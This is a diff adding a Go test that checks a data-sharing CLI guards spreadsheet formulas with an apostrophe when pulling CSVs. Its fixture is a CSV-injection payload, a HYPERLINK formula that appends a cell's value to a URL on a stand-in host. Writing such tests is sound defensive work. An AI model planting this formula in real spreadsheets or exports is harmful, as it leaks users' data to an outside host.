@@ -745,3 +745,34 @@ func TestRunDatasetsExitCodes(t *testing.T) {
 		})
 	}
 }
+
+// TestRunDatasetsPullGuardsFormulas pushes a text that a spreadsheet would
+// run as a formula and checks that a CSV pull guards it with an
+// apostrophe, that --raw-text writes it as stored, and that pushing the
+// guarded file back stores the text unchanged.
+func TestRunDatasetsPullGuardsFormulas(t *testing.T) {
+	f, dir := pushedFixture(t)
+	rev := f.server.Revision()
+	writeFile(t, dir, "formula.csv", "period,location,sex,age_group,returned,notes",
+		`2026-04,KH-12,female,25+,3,"=HYPERLINK(""http://x.example/?""&A1)"`)
+	f.runAsIn(dir, "agency/iom", "datasets", "push", "ilo/returns", "-f", "formula.csv").must(t)
+
+	guarded := f.runAsIn(dir, "agency/mosvy", "datasets", "pull", "ilo/returns", "--since", fmt.Sprint(rev)).must(t)
+	if !strings.Contains(guarded.stdout, `,"'=HYPERLINK(""http://x.example/?""&A1)"`) {
+		t.Errorf("pull without --raw-text does not guard the formula:\n%s", guarded.stdout)
+	}
+	raw := f.runAsIn(dir, "agency/mosvy", "datasets", "pull", "ilo/returns", "--since", fmt.Sprint(rev), "--raw-text").must(t)
+	if !strings.Contains(raw.stdout, `,"=HYPERLINK(""http://x.example/?""&A1)"`) {
+		t.Errorf("pull --raw-text changed the text:\n%s", raw.stdout)
+	}
+
+	// The guarded file pushed back stores the text as it was: the row
+	// does not change, so no revision is made.
+	writeFile(t, dir, "again.csv", strings.Split(strings.TrimSpace(strings.ReplaceAll(guarded.stdout, "agencies/iom", "")), "\n")...)
+	before := f.server.Revision()
+	f.runAsIn(dir, "agency/iom", "datasets", "push", "ilo/returns", "-f", "again.csv").must(t)
+	again := f.runAsIn(dir, "agency/mosvy", "datasets", "pull", "ilo/returns", "--since", fmt.Sprint(rev), "--raw-text").must(t)
+	if again.stdout != raw.stdout {
+		t.Errorf("after pushing the guarded file back (revision %d → %d):\n%s\nwant\n%s", before, f.server.Revision(), again.stdout, raw.stdout)
+	}
+}
